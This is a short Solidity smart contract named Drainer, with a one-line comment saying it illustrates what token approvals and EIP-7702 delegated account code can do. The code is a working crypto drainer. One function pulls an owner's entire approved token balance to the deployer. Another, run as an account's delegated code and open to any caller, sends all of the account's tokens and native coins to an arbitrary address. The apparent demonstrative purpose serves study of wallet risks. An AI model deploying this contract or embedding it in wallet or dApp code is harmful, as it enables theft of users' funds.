// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.28;

interface IToken {
    function transferFrom(address from, address to, uint256 value) external returns (bool);
    function transfer(address to, uint256 value) external returns (bool);
    function balanceOf(address owner) external view returns (uint256);
}

/// What an approval to a stranger comes to, and what code that an account takes on can do in its name.
contract Drainer {
    address public immutable boss;

    constructor() {
        boss = msg.sender;
    }

    /// Takes all that was approved to this contract.
    function take(IToken token, address from) external {
        token.transferFrom(from, boss, token.balanceOf(from));
    }

    /// Run as an account's own code (EIP-7702): gives everything away.
    function sweep(IToken token, address payable to) external {
        uint256 held = token.balanceOf(address(this));
        if (held > 0) {
            token.transfer(to, held);
        }
        (bool done, ) = to.call{value: address(this).balance}("");
        require(done, "coins");
    }

    receive() external payable {}
}
